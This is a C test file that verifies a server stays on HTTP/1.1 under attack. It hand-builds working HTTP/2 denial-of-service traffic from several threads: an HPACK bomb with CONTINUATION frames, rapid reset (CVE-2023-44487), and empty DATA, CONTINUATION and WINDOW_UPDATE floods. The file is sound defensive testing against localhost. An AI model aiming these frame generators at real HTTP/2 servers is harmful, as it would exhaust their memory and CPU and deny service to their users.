/* HTTP/2 attacks against the real server (issue 18), over TLS with ALPN
 * offering h2, and on the plain port with the prior-knowledge preface:
 *   - the HPACK bomb: one 4 KB header inserted into the dynamic table,
 *     then hundreds of thousands of one-byte references to it per stream
 *     in CONTINUATION frames, with SETTINGS_INITIAL_WINDOW_SIZE 0 so that
 *     no answer can leave and each stream holds its headers (10 streams
 *     raised h2o 2.2.5's RSS by 440 MB);
 *   - rapid reset (CVE-2023-44487): HEADERS + RST_STREAM pairs, a handler
 *     run for each (46,000 streams a second);
 *   - floods of empty DATA, CONTINUATION and WINDOW_UPDATE frames.
 * h2o 2.2.5 defends against none of them, so the service does not speak
 * HTTP/2 at all: ALPN offers only http/1.1, and h2c (Upgrade or prior
 * knowledge) is off, the preface getting h2o's own 400 and a close.
 *
 * Each attack runs for ATTACK_MS from several connections at once, each
 * reconnecting ATTACK_RECONNECT_MS after the server closes it, while a
 * well-behaved HTTP/1.1 keep-alive client (GET /json and /db, one every
 * PROBE_PACE_MS) measures its latency. Checked for each: the server never
 * sends an HTTP/2 frame (its first bytes would be a SETTINGS frame,
 * "\x00\x00.\x04") nor selects h2 by ALPN, closes every attack connection
 * soon after its first byte, grows its RSS by at most RSS_BOUND_MIB, uses
 * little CPU for it, and the well-behaved client sees no error and no
 * slow answer. Figures go to stderr as "attacks: ..." lines.
 *
 * h2c itself: libcurl's --http2-prior-knowledge gets no HTTP/2, and
 * Upgrade: h2c gets a plain HTTP/1.1 200, never a 101.
 *
 * The attacking client is written here on raw sockets (plain) and on
 * libcurl's CONNECT_ONLY TLS connections (which offer h2 by ALPN when asked
 * for HTTP/2), frames built by hand. Run through scripts/with-postgres.sh. */
#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <check.h>
#include <curl/curl.h>
#include <jansson.h>

#include "support/clock.h"
#include "support/http.h"
#include "support/pg.h"
#include "support/server.h"
#include "support/suite.h"

#if defined(__SANITIZE_ADDRESS__)
#define UNDER_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define UNDER_ASAN 1
#endif
#endif
#ifndef UNDER_ASAN
#define UNDER_ASAN 0
#endif

#define ATTACK_MS 3000
#define QUIET_MS 1000            /* the well-behaved client alone, right before each attack */
#define ATTACK_RECONNECT_MS 50   /* an attacker's pause before it connects again */
#define PROBE_PACE_MS 10         /* between two requests of the well-behaved client */
#define PROBE_TIMEOUT_MS 5000
#define CLOSE_BOUND_MS 2000.0    /* from an attack connection's first byte to the server's close */
#define RSS_BOUND_MIB 64
#define LATENCY_BOUND_MS 100.0   /* on a quiet machine; see latency_bound() */
#define CPU_BOUND 0.5            /* of a core, above the quiet second's */

static char tls_dir[64], cert_path[128], key_path[128];

static void report(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void report(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fputs("attacks: ", stderr);
    vfprintf(stderr, fmt, ap);
    fputc('\n', stderr);
    va_end(ap);
}

/* ---- bytes ---- */

typedef struct bytes {
    unsigned char *p;
    size_t len, cap;
} bytes;

static void put(bytes *b, const void *p, size_t n)
{
    if (b->len + n > b->cap) {
        size_t cap = b->cap ? b->cap : 4096;
        while (cap < b->len + n)
            cap *= 2;
        unsigned char *q = realloc(b->p, cap);
        if (q == NULL)
            abort();
        b->p = q;
        b->cap = cap;
    }
    memcpy(b->p + b->len, p, n);
    b->len += n;
}

static void put_byte(bytes *b, unsigned char c) { put(b, &c, 1); }

static void bytes_free(bytes *b)
{
    free(b->p);
    *b = (bytes){0};
}

/* ---- HTTP/2 frames (RFC 9113) and HPACK (RFC 7541), by hand ---- */

enum { DATA = 0x0, HEADERS = 0x1, RST_STREAM = 0x3, SETTINGS = 0x4, WINDOW_UPDATE = 0x8, CONTINUATION = 0x9 };
enum { END_STREAM = 0x1, END_HEADERS = 0x4 };
#define MAX_FRAME 16384 /* SETTINGS_MAX_FRAME_SIZE's initial value */
static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

static void frame_head(bytes *b, size_t len, unsigned type, unsigned flags, uint32_t stream)
{
    unsigned char h[9] = {(unsigned char)(len >> 16), (unsigned char)(len >> 8), (unsigned char)len,
                          (unsigned char)type,        (unsigned char)flags,     (unsigned char)(stream >> 24),
                          (unsigned char)(stream >> 16), (unsigned char)(stream >> 8), (unsigned char)stream};
    put(b, h, sizeof(h));
}

static void frame(bytes *b, unsigned type, unsigned flags, uint32_t stream, const void *payload, size_t len)
{
    frame_head(b, len, type, flags, stream);
    if (len > 0)
        put(b, payload, len);
}

/* An HPACK integer with an n-bit prefix after the bits of first. */
static void hpack_int(bytes *b, unsigned char first, int n, size_t v)
{
    size_t max = ((size_t)1 << n) - 1;
    if (v < max) {
        put_byte(b, (unsigned char)(first | v));
        return;
    }
    put_byte(b, (unsigned char)(first | max));
    for (v -= max; v >= 128; v >>= 7)
        put_byte(b, (unsigned char)(0x80 | (v & 0x7f)));
    put_byte(b, (unsigned char)v);
}

static void hpack_str(bytes *b, const char *s, size_t n)
{
    hpack_int(b, 0x00, 7, n); /* not Huffman-coded */
    put(b, s, n);
}

/* :method GET (static 2), :scheme (6 http, 7 https), :path (static 4 for
 * "/", else a literal with the name of static 4), :authority literal. */
static void request_block(bytes *b, bool tls, const char *path)
{
    put_byte(b, 0x82);
    put_byte(b, tls ? 0x87 : 0x86);
    if (strcmp(path, "/") == 0) {
        put_byte(b, 0x84);
    } else {
        hpack_int(b, 0x00, 4, 4); /* literal without indexing, indexed name */
        hpack_str(b, path, strlen(path));
    }
    hpack_int(b, 0x00, 4, 1);
    hpack_str(b, "localhost", 9);
}

/* The preface and a SETTINGS frame: no push, and initial window 0 (the
 * server may send no DATA: each stream's answer, and with it the request,
 * stays). */
static void opening(bytes *b)
{
    put(b, preface, sizeof(preface) - 1);
    static const unsigned char settings[] = {0, 2, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0};
    frame(b, SETTINGS, 0, 0, settings, sizeof(settings));
}

/* ---- the attacks: bytes sent once, then bytes sent again and again ---- */

typedef struct attack {
    const char *name;
    bytes once, again; /* again may be empty: then the connection is held, silent */
} attack;

#define BOMB_VALUE 4000     /* + "x-bomb" + 32 = 4,038 bytes of the 4,096 of the dynamic table */
#define BOMB_STREAMS 2
#define BOMB_CONTINUATIONS 12 /* per stream: ~209,000 one-byte references */

static void make_bomb(attack *a, bool tls)
{
    *a = (attack){.name = "HPACK bomb"};
    opening(&a->once);
    for (uint32_t s = 0; s < BOMB_STREAMS; s++) {
        bytes block = {0};
        request_block(&block, tls, "/json");
        if (s == 0) { /* literal with incremental indexing, new name: dynamic index 62 */
            put_byte(&block, 0x40);
            hpack_str(&block, "x-bomb", 6);
            char *v = malloc(BOMB_VALUE);
            if (v == NULL)
                abort();
            memset(v, 'b', BOMB_VALUE);
            hpack_str(&block, v, BOMB_VALUE);
            free(v);
        }
        while (block.len < MAX_FRAME)
            put_byte(&block, 0xbe); /* indexed: dynamic entry 62, the 4 KB header */
        frame(&a->once, HEADERS, END_STREAM, 2 * s + 1, block.p, block.len);
        bytes_free(&block);
        unsigned char refs[MAX_FRAME];
        memset(refs, 0xbe, sizeof(refs));
        for (int i = 0; i < BOMB_CONTINUATIONS; i++)
            frame(&a->once, CONTINUATION, i == BOMB_CONTINUATIONS - 1 ? END_HEADERS : 0, 2 * s + 1, refs,
                  sizeof(refs));
    }
}

#define RESET_BATCH 256

static void make_rapid_reset(attack *a, bool tls)
{
    *a = (attack){.name = "rapid reset"};
    opening(&a->once);
    bytes block = {0};
    request_block(&block, tls, "/db");
    /* stream ids go up with every batch sent: the batch is rewritten per
     * send by the sender (see next_again) */
    for (int i = 0; i < RESET_BATCH; i++) {
        frame(&a->again, HEADERS, END_STREAM | END_HEADERS, 0, block.p, block.len);
        static const unsigned char cancel[] = {0, 0, 0, 8}; /* CANCEL */
        frame(&a->again, RST_STREAM, 0, 0, cancel, sizeof(cancel));
    }
    bytes_free(&block);
}

#define FLOOD_BATCH 1024

static void make_flood(attack *a, bool tls, unsigned type)
{
    *a = (attack){.name = type == DATA ? "empty DATA flood" : type == CONTINUATION ? "empty CONTINUATION flood"
                                                                                  : "WINDOW_UPDATE flood"};
    opening(&a->once);
    bytes block = {0};
    request_block(&block, tls, "/json");
    if (type == DATA) /* a stream open for its body */
        frame(&a->once, HEADERS, END_HEADERS, 1, block.p, block.len);
    else if (type == CONTINUATION) /* a header block never ended */
        frame(&a->once, HEADERS, END_STREAM, 1, block.p, block.len);
    bytes_free(&block);
    static const unsigned char one[] = {0, 0, 0, 1};
    for (int i = 0; i < FLOOD_BATCH; i++) {
        if (type == WINDOW_UPDATE)
            frame(&a->again, WINDOW_UPDATE, 0, 0, one, sizeof(one));
        else
            frame(&a->again, type, 0, 1, NULL, 0);
    }
}

static void attack_free(attack *a)
{
    bytes_free(&a->once);
    bytes_free(&a->again);
}

/* ---- a connection: plain, or TLS through libcurl ---- */

typedef struct target {
    int port;
    bool tls;
} target;

typedef struct conn {
    int fd;
    CURL *curl; /* TLS */
    bool alpn_h2, alpn_seen;
} conn;

static int on_curl_debug(CURL *h, curl_infotype type, char *data, size_t size, void *arg)
{
    (void)h;
    conn *c = arg;
    static const char accepted[] = "ALPN: server accepted ";
    if (type == CURLINFO_TEXT && size >= sizeof(accepted) - 1 && strncmp(data, accepted, sizeof(accepted) - 1) == 0) {
        c->alpn_seen = true;
        c->alpn_h2 = size >= sizeof(accepted) + 1 && strncmp(data + sizeof(accepted) - 1, "h2", 2) == 0;
    }
    return 0;
}

/* 0, or -1 (no connection; err says why). Non-aborting: attack threads. */
static int conn_open(conn *c, const target *t, char *err, size_t errlen)
{
    *c = (conn){.fd = -1};
    if (!t->tls) {
        c->fd = test_raw_try_connect(t->port, 0);
        if (c->fd < 0) {
            snprintf(err, errlen, "connect: %s", strerror(-c->fd));
            return -1;
        }
        return 0;
    }
    c->curl = curl_easy_init();
    if (c->curl == NULL) {
        snprintf(err, errlen, "curl_easy_init failed");
        return -1;
    }
    char url[64];
    snprintf(url, sizeof(url), "https://127.0.0.1:%d/", t->port);
    curl_easy_setopt(c->curl, CURLOPT_URL, url);
    curl_easy_setopt(c->curl, CURLOPT_CAINFO, cert_path);
    curl_easy_setopt(c->curl, CURLOPT_CONNECT_ONLY, 1L);
    curl_easy_setopt(c->curl, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(c->curl, CURLOPT_CONNECTTIMEOUT_MS, 5000L);
    curl_easy_setopt(c->curl, CURLOPT_HTTP_VERSION, (long)CURL_HTTP_VERSION_2TLS); /* ALPN: h2, http/1.1 */
    curl_easy_setopt(c->curl, CURLOPT_DEBUGFUNCTION, on_curl_debug);
    curl_easy_setopt(c->curl, CURLOPT_DEBUGDATA, c);
    curl_easy_setopt(c->curl, CURLOPT_VERBOSE, 1L);
    CURLcode rc = curl_easy_perform(c->curl);
    curl_socket_t s = CURL_SOCKET_BAD;
    if (rc == CURLE_OK)
        curl_easy_getinfo(c->curl, CURLINFO_ACTIVESOCKET, &s);
    if (rc != CURLE_OK || s == CURL_SOCKET_BAD) {
        snprintf(err, errlen, "TLS connect: %s", curl_easy_strerror(rc));
        curl_easy_cleanup(c->curl);
        c->curl = NULL;
        return -1;
    }
    c->fd = (int)s;
    return 0;
}

/* Bytes sent (> 0), 0 if it would block, -1 once the server closed. */
static ssize_t conn_send(conn *c, const void *p, size_t n)
{
    if (c->curl == NULL) {
        ssize_t w = send(c->fd, p, n, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (w >= 0)
            return w;
        return errno == EAGAIN || errno == EINTR ? 0 : -1;
    }
    size_t sent = 0;
    CURLcode rc = curl_easy_send(c->curl, p, n, &sent);
    if (rc == CURLE_OK)
        return (ssize_t)sent;
    return rc == CURLE_AGAIN ? 0 : -1;
}

/* Bytes received (> 0), 0 if none are there, -1 once the server closed. */
static ssize_t conn_recv(conn *c, void *p, size_t n)
{
    if (c->curl == NULL) {
        ssize_t r = recv(c->fd, p, n, MSG_DONTWAIT);
        if (r > 0)
            return r;
        return r < 0 && (errno == EAGAIN || errno == EINTR) ? 0 : -1;
    }
    size_t got = 0;
    CURLcode rc = curl_easy_recv(c->curl, p, n, &got);
    if (rc == CURLE_OK)
        return got > 0 ? (ssize_t)got : -1;
    return rc == CURLE_AGAIN ? 0 : -1;
}

static void conn_close(conn *c)
{
    if (c->curl != NULL)
        curl_easy_cleanup(c->curl);
    else if (c->fd >= 0)
        close(c->fd);
    *c = (conn){.fd = -1};
}

/* ---- attackers: each a thread, connecting again after every close ---- */

typedef struct attacker {
    const attack *a;
    target t;
    atomic_bool *stop;
    pthread_t thread;
    /* results, read after the join */
    int opened, attacked, closed, open_at_end, answered_400, answered_other, answered_h2, silent, alpn_h2, alpn_none;
    double worst_close_ms;
    long long sent;
    char first_error[200], first_other[120];
} attacker;

/* Rewrites the stream ids of a rapid-reset batch: HEADERS and RST_STREAM
 * pairs, each pair a new odd stream. */
static void number_streams(unsigned char *p, size_t len, uint32_t *next)
{
    for (size_t off = 0; off + 9 <= len;) {
        size_t flen = ((size_t)p[off] << 16) | ((size_t)p[off + 1] << 8) | p[off + 2];
        uint32_t s = *next;
        p[off + 5] = (unsigned char)(s >> 24);
        p[off + 6] = (unsigned char)(s >> 16);
        p[off + 7] = (unsigned char)(s >> 8);
        p[off + 8] = (unsigned char)s;
        if (p[off + 3] == RST_STREAM)
            *next += 2;
        off += 9 + flen;
    }
}

static void classify(attacker *k, const unsigned char *got, size_t n)
{
    if (n == 0) {
        k->silent++;
    } else if (n >= 12 && memcmp(got, "HTTP/1.1 400", 12) == 0) {
        k->answered_400++;
    } else if (n >= 5 && memcmp(got, "HTTP/", 5) == 0) {
        if (k->answered_other++ == 0)
            snprintf(k->first_other, sizeof(k->first_other), "%.*s", (int)(n < 100 ? n : 100), (const char *)got);
    } else {
        k->answered_h2++; /* not HTTP/1.1: an HTTP/2 server's first bytes are its SETTINGS frame */
        if (k->first_other[0] == '\0')
            snprintf(k->first_other, sizeof(k->first_other), "%02x %02x %02x %02x (not HTTP/1.1; a frame of type %u)",
                     got[0], n > 1 ? got[1] : 0, n > 2 ? got[2] : 0, n > 3 ? got[3] : 0, n > 3 ? got[3] : 0);
    }
}

/* One connection's attack, until the server closes it or the stop. */
static void attack_once(attacker *k, conn *c)
{
    const attack *a = k->a;
    unsigned char *again = NULL;
    if (a->again.len > 0 && (again = malloc(a->again.len)) == NULL)
        abort();
    if (again != NULL)
        memcpy(again, a->again.p, a->again.len);
    uint32_t next_stream = 1;
    bool repeating = false, numbered = strcmp(a->name, "rapid reset") == 0;
    const unsigned char *cur = a->once.p;
    size_t cur_len = a->once.len, off = 0;
    unsigned char got[64];
    size_t ngot = 0;
    int64_t first_byte = 0, stopped = 0;
    bool closed = false;
    for (;;) {
        /* at the stop, nothing more is sent; a connection that was sent
         * something is given CLOSE_BOUND_MS to be closed, as any other */
        if (stopped == 0 && atomic_load(k->stop))
            stopped = now_us();
        if (stopped != 0 && (first_byte == 0 || ms_since_us(first_byte) > CLOSE_BOUND_MS + 500))
            break;
        struct pollfd p = {.fd = c->fd, .events = POLLIN | (off < cur_len && stopped == 0 ? POLLOUT : 0)};
        poll(&p, 1, 10);
        unsigned char buf[4096];
        ssize_t r;
        while ((r = conn_recv(c, buf, sizeof(buf))) > 0)
            if (ngot < sizeof(got)) {
                size_t take = (size_t)r < sizeof(got) - ngot ? (size_t)r : sizeof(got) - ngot;
                memcpy(got + ngot, buf, take);
                ngot += take;
            }
        if (r < 0) {
            closed = true;
            break;
        }
        if (off < cur_len && stopped == 0) {
            int64_t attempt = now_us();
            ssize_t w = conn_send(c, cur + off, cur_len - off);
            if (w < 0) {
                /* a TLS write the server's close cut short reports no
                 * byte sent, though records of it went out */
                if (first_byte == 0)
                    first_byte = attempt;
                /* what the server answered before it closed is still to be read */
                while ((r = conn_recv(c, buf, sizeof(buf))) > 0)
                    if (ngot < sizeof(got)) {
                        size_t take = (size_t)r < sizeof(got) - ngot ? (size_t)r : sizeof(got) - ngot;
                        memcpy(got + ngot, buf, take);
                        ngot += take;
                    }
                closed = true;
                break;
            }
            if (w > 0 && first_byte == 0)
                first_byte = now_us();
            off += (size_t)w;
            k->sent += w;
        }
        if (off == cur_len && again != NULL) { /* the next batch */
            if (numbered)
                number_streams(again, a->again.len, &next_stream);
            cur = again, cur_len = a->again.len, off = 0;
            repeating = true;
        }
    }
    (void)repeating;
    free(again);
    if (first_byte == 0) { /* no byte of the attack went out: nothing to judge but the ALPN */
        classify(k, got, ngot);
        return;
    }
    k->attacked++;
    if (closed) {
        k->closed++;
        double ms = first_byte ? ms_since_us(first_byte) : 0;
        k->worst_close_ms = ms > k->worst_close_ms ? ms : k->worst_close_ms;
    } else {
        k->open_at_end++;
    }
    classify(k, got, ngot);
}

static void *attacker_main(void *arg)
{
    attacker *k = arg;
    while (!atomic_load(k->stop)) {
        conn c;
        char err[160];
        if (conn_open(&c, &k->t, err, sizeof(err)) < 0) {
            if (k->first_error[0] == '\0')
                snprintf(k->first_error, sizeof(k->first_error), "%s", err);
            sleep_ms(ATTACK_RECONNECT_MS);
            continue;
        }
        k->opened++;
        if (k->t.tls) {
            k->alpn_h2 += c.alpn_h2;
            k->alpn_none += !c.alpn_seen;
        }
        attack_once(k, &c);
        conn_close(&c);
        if (!atomic_load(k->stop))
            sleep_ms(ATTACK_RECONNECT_MS);
    }
    return NULL;
}

/* ---- the well-behaved client: HTTP/1.1 keep-alive, GET /json and /db ---- */

typedef struct prober {
    target t;
    pid_t server;
    pthread_t thread;
    atomic_bool stop;
    pthread_mutex_t lock;
    /* since the last prober_take */
    double *lat;
    size_t n, cap;
    long errors;
    char first_error[256];
    long rss_peak;
} prober;

typedef struct probe_stats {
    size_t n;
    long errors;
    double p50, p99, max;
    long rss_peak;
    char first_error[256];
} probe_stats;

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

static void *prober_main(void *arg)
{
    prober *p = arg;
    CURL *c = curl_easy_init();
    if (c == NULL)
        abort();
    test_reply reply = {0};
    curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(c, CURLOPT_TIMEOUT_MS, (long)PROBE_TIMEOUT_MS);
    curl_easy_setopt(c, CURLOPT_HTTP_VERSION, (long)CURL_HTTP_VERSION_1_1);
    curl_easy_setopt(c, CURLOPT_CAINFO, cert_path);
    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, test_reply_write);
    curl_easy_setopt(c, CURLOPT_WRITEDATA, &reply);
    for (long i = 0; !atomic_load(&p->stop); i++) {
        char url[96];
        const char *path = i % 2 ? "/db" : "/json";
        snprintf(url, sizeof(url), "%s://127.0.0.1:%d%s", p->t.tls ? "https" : "http", p->t.port, path);
        curl_easy_setopt(c, CURLOPT_URL, url);
        reply.len = 0;
        int64_t t0 = now_us();
        CURLcode rc = curl_easy_perform(c);
        double ms = ms_since_us(t0);
        long status = 0;
        curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &status);
        long version = 0;
        curl_easy_getinfo(c, CURLINFO_HTTP_VERSION, &version);
        bool ok = rc == CURLE_OK && status == 200 && version == CURL_HTTP_VERSION_1_1 && reply.body != NULL &&
                  (i % 2 ? strncmp(reply.body, "{\"id\":", 6) == 0
                         : strcmp(reply.body, "{\"message\":\"Hello, World!\"}") == 0);
        long kib = test_rss_kib(p->server);
        pthread_mutex_lock(&p->lock);
        if (p->n == p->cap) {
            p->cap = p->cap ? 2 * p->cap : 1024;
            p->lat = realloc(p->lat, p->cap * sizeof(*p->lat));
            if (p->lat == NULL)
                abort();
        }
        p->lat[p->n++] = ms;
        if (!ok && p->errors++ == 0)
            snprintf(p->first_error, sizeof(p->first_error), "GET %s: %s, status %ld, version %ld after %.1f ms: %.100s",
                     path, curl_easy_strerror(rc), status, version, ms, reply.body ? reply.body : "");
        p->rss_peak = kib > p->rss_peak ? kib : p->rss_peak;
        pthread_mutex_unlock(&p->lock);
        sleep_ms(PROBE_PACE_MS);
    }
    free(reply.body);
    curl_easy_cleanup(c);
    return NULL;
}

static void prober_start(prober *p, const target *t, pid_t server)
{
    memset(p, 0, sizeof(*p));
    p->t = *t;
    p->server = server;
    pthread_mutex_init(&p->lock, NULL);
    ck_assert_int_eq(pthread_create(&p->thread, NULL, prober_main, p), 0);
}

/* What the client saw since the last call, and a fresh start. */
static probe_stats prober_take(prober *p)
{
    probe_stats s = {0};
    pthread_mutex_lock(&p->lock);
    s.n = p->n;
    s.errors = p->errors;
    s.rss_peak = p->rss_peak;
    snprintf(s.first_error, sizeof(s.first_error), "%s", p->first_error);
    if (p->n > 0) {
        qsort(p->lat, p->n, sizeof(*p->lat), cmp_double);
        s.p50 = p->lat[p->n / 2];
        s.p99 = p->lat[p->n * 99 / 100];
        s.max = p->lat[p->n - 1];
    }
    p->n = 0;
    p->errors = 0;
    p->first_error[0] = '\0';
    p->rss_peak = 0;
    pthread_mutex_unlock(&p->lock);
    return s;
}

static void prober_stop(prober *p)
{
    atomic_store(&p->stop, true);
    pthread_join(p->thread, NULL);
    free(p->lat);
    pthread_mutex_destroy(&p->lock);
}

/* ---- bounds ---- */

/* RSS_BOUND_MIB, and under ASan the quarantine besides: freed memory (the
 * refused connections' buffers) is not reused until it leaves it
 * (quarantine_size_mb, 256 by default). */
static long rss_bound_kib(void)
{
    long kib = RSS_BOUND_MIB * 1024L;
    if (UNDER_ASAN) {
        long quarantine_mb = 256;
        const char *opts = getenv("ASAN_OPTIONS");
        const char *q = opts != NULL ? strstr(opts, "quarantine_size_mb=") : NULL;
        if (q != NULL)
            quarantine_mb = atol(q + strlen("quarantine_size_mb="));
        kib += quarantine_mb * 1024;
    }
    return kib;
}

/* The well-behaved client's p99 latency under attack: LATENCY_BOUND_MS
 * (100 ms), or four times its worst in the quiet second right before, if
 * that is more. On a quiet machine the normal build's worst is a few ms,
 * so 100 ms holds; on a machine loaded by other work (another test run,
 * stress-ng), or under ASan, the quiet worst itself reaches tens or
 * hundreds of ms, and the bound follows the load rather than the attack.
 * It still fails for what the attacks did before the fix: rapid reset took
 * other clients from 7 ms to over a second, 4 x a quiet worst of up to
 * 250 ms. */
static double latency_bound(double quiet_max)
{
    return 4 * quiet_max > LATENCY_BOUND_MS ? 4 * quiet_max : LATENCY_BOUND_MS;
}

/* ---- one attack, measured ---- */

static void run_attack(const test_server *srv, const target *t, prober *pr, attack *a, int slots)
{
    /* the well-behaved client alone, right before */
    prober_take(pr);
    long cpu0 = test_cpu_ms(srv->pid);
    int64_t q0 = now_us();
    sleep_ms(QUIET_MS);
    probe_stats quiet = prober_take(pr);
    double quiet_cpu = (double)(test_cpu_ms(srv->pid) - cpu0) / ms_since_us(q0);

    long rss_before = test_rss_kib(srv->pid), rss_peak = rss_before;
    atomic_bool stop = false;
    attacker *k = calloc((size_t)slots, sizeof(*k));
    ck_assert_ptr_nonnull(k);
    long cpu1 = test_cpu_ms(srv->pid);
    int64_t t0 = now_us();
    for (int i = 0; i < slots; i++) {
        k[i] = (attacker){.a = a, .t = *t, .stop = &stop};
        ck_assert_int_eq(pthread_create(&k[i].thread, NULL, attacker_main, &k[i]), 0);
    }
    while (ms_since_us(t0) < ATTACK_MS) {
        sleep_ms(20);
        long kib = test_rss_kib(srv->pid);
        rss_peak = kib > rss_peak ? kib : rss_peak;
    }
    double cpu = (double)(test_cpu_ms(srv->pid) - cpu1) / ms_since_us(t0);
    atomic_store(&stop, true);
    for (int i = 0; i < slots; i++)
        pthread_join(k[i].thread, NULL);
    probe_stats under = prober_take(pr);
    rss_peak = under.rss_peak > rss_peak ? under.rss_peak : rss_peak;
    sleep_ms(500);
    long rss_after = test_rss_kib(srv->pid);

    attacker sum = {0};
    for (int i = 0; i < slots; i++) {
        sum.opened += k[i].opened;
        sum.attacked += k[i].attacked;
        sum.closed += k[i].closed;
        sum.open_at_end += k[i].open_at_end;
        sum.answered_400 += k[i].answered_400;
        sum.answered_other += k[i].answered_other;
        sum.answered_h2 += k[i].answered_h2;
        sum.silent += k[i].silent;
        sum.alpn_h2 += k[i].alpn_h2;
        sum.alpn_none += k[i].alpn_none;
        sum.sent += k[i].sent;
        sum.worst_close_ms = k[i].worst_close_ms > sum.worst_close_ms ? k[i].worst_close_ms : sum.worst_close_ms;
        if (sum.first_error[0] == '\0' && k[i].first_error[0] != '\0')
            memcpy(sum.first_error, k[i].first_error, sizeof(sum.first_error));
        if (sum.first_other[0] == '\0' && k[i].first_other[0] != '\0')
            memcpy(sum.first_other, k[i].first_other, sizeof(sum.first_other));
    }
    free(k);
    const char *tr = t->tls ? "TLS" : "plain";
    double bound = latency_bound(quiet.max);
    report("%s, %s: %d attackers for %d ms: %d connections (%d sent the attack), %d closed by the server (the slowest "
           "%.0f ms after its first byte), %d still open at the end; %lld bytes sent; answers: %d h2o 400, %d other "
           "HTTP, %d not HTTP/1.1 (HTTP/2 frames), %d none%s",
           tr, a->name, slots, ATTACK_MS, sum.opened, sum.attacked, sum.closed, sum.worst_close_ms, sum.open_at_end,
           sum.sent,
           sum.answered_400, sum.answered_other, sum.answered_h2, sum.silent,
           t->tls ? (sum.alpn_h2 ? "; ALPN h2 SELECTED" : "; ALPN: http/1.1 selected, h2 never") : "");
    report("%s, %s: server RSS %ld KiB before, %ld KiB at the peak (+%ld, bound +%ld), %ld KiB 0.5 s after; CPU %.0f%% "
           "of a core (%.0f%% in the quiet second before)",
           tr, a->name, rss_before, rss_peak, rss_peak - rss_before, rss_bound_kib(), rss_after, 100 * cpu,
           100 * quiet_cpu);
    report("%s, %s: well-behaved client: %zu requests, %ld errors, p50 %.1f ms, p99 %.1f ms, max %.1f ms (bound %.0f "
           "ms on the p99; quiet second before: %zu requests, p50 %.1f ms, max %.1f ms)",
           tr, a->name, under.n, under.errors, under.p50, under.p99, under.max, bound, quiet.n, quiet.p50, quiet.max);

    ck_assert_msg(sum.answered_h2 == 0 && sum.alpn_h2 == 0,
                  "%s, %s: the server spoke HTTP/2: %d connections answered with frames (%s), h2 selected by ALPN on "
                  "%d",
                  tr, a->name, sum.answered_h2, sum.first_other, sum.alpn_h2);
    ck_assert_msg(sum.attacked > 0, "%s, %s: no attack could be sent (%d connections made): %s", tr, a->name,
                  sum.opened, sum.first_error);
    ck_assert_msg(sum.answered_other == 0, "%s, %s: %d answers other than h2o's 400: %s", tr, a->name,
                  sum.answered_other, sum.first_other);
    ck_assert_msg(sum.open_at_end == 0 && sum.closed == sum.attacked,
                  "%s, %s: %d of %d attack connections were still open after %d ms", tr, a->name, sum.open_at_end,
                  sum.attacked, ATTACK_MS);
    ck_assert_msg(sum.worst_close_ms <= CLOSE_BOUND_MS, "%s, %s: an attack connection was closed only %.0f ms after "
                  "its first byte", tr, a->name, sum.worst_close_ms);
    ck_assert_msg(sum.answered_400 > 0, "%s, %s: no attack connection got h2o's 400 before its close", tr, a->name);
    ck_assert_msg(rss_peak - rss_before <= rss_bound_kib(), "%s, %s: the server's RSS grew by %ld KiB (bound %ld KiB)",
                  tr, a->name, rss_peak - rss_before, rss_bound_kib());
    ck_assert_msg(under.n > 0 && under.errors == 0, "%s, %s: the well-behaved client saw %ld error(s) in %zu requests: %s",
                  tr, a->name, under.errors, under.n, under.first_error);
    /* the 99th percentile (of some 200 requests): one scheduler hiccup of
     * a loaded machine is not the attack; an attack that slows the server
     * (rapid reset did: 0.3-1.4 s) slows them all */
    ck_assert_msg(under.p99 <= bound, "%s, %s: the well-behaved client's p99 was %.1f ms (bound %.0f ms, max %.1f ms)",
                  tr, a->name, under.p99, bound, under.max);
    ck_assert_msg(cpu - quiet_cpu <= CPU_BOUND, "%s, %s: the server used %.0f%% of a core under the attack, %.0f%% "
                  "before", tr, a->name, 100 * cpu, 100 * quiet_cpu);
}

/* ---- the server ---- */

static char *db;

static void db_setup(void) { db = test_pg_create_db(); }

static void db_teardown(void)
{
    if (db != NULL)
        test_pg_drop_db(db);
    db = NULL;
}

static void attack_server(bool tls)
{
    test_server srv;
    char cert[160], key[160];
    snprintf(cert, sizeof(cert), "TLS_CERT_FILE=%s", cert_path);
    snprintf(key, sizeof(key), "TLS_KEY_FILE=%s", key_path);
    const char *env[] = {"LOG_LEVEL=warn", tls ? cert : NULL, tls ? key : NULL, NULL};
    test_server_start(&srv, db, env);
    target t = {.port = srv.port, .tls = tls};
    prober pr;
    prober_start(&pr, &t, srv.pid);
    sleep_ms(300); /* its connection made, the pool warm */

    attack attacks[5];
    make_bomb(&attacks[0], tls);
    make_rapid_reset(&attacks[1], tls);
    make_flood(&attacks[2], tls, DATA);
    make_flood(&attacks[3], tls, CONTINUATION);
    make_flood(&attacks[4], tls, WINDOW_UPDATE);
    static const int slots[] = {10, 4, 2, 2, 2};
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
        run_attack(&srv, &t, &pr, &attacks[i], slots[i]);
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
        attack_free(&attacks[i]);
    prober_stop(&pr);
    ck_assert_int_eq(test_server_stop(&srv), 0);
    char *log = test_server_log(&srv);
    static const char *const alarms[] = {"AddressSanitizer", "LeakSanitizer", "runtime error:", "\"level\":\"error\""};
    for (size_t i = 0; i < sizeof(alarms) / sizeof(alarms[0]); i++)
        ck_assert_msg(strstr(log, alarms[i]) == NULL, "the server's log has \"%s\":\n%.3000s", alarms[i],
                      strstr(log, alarms[i]));
    free(log);
}

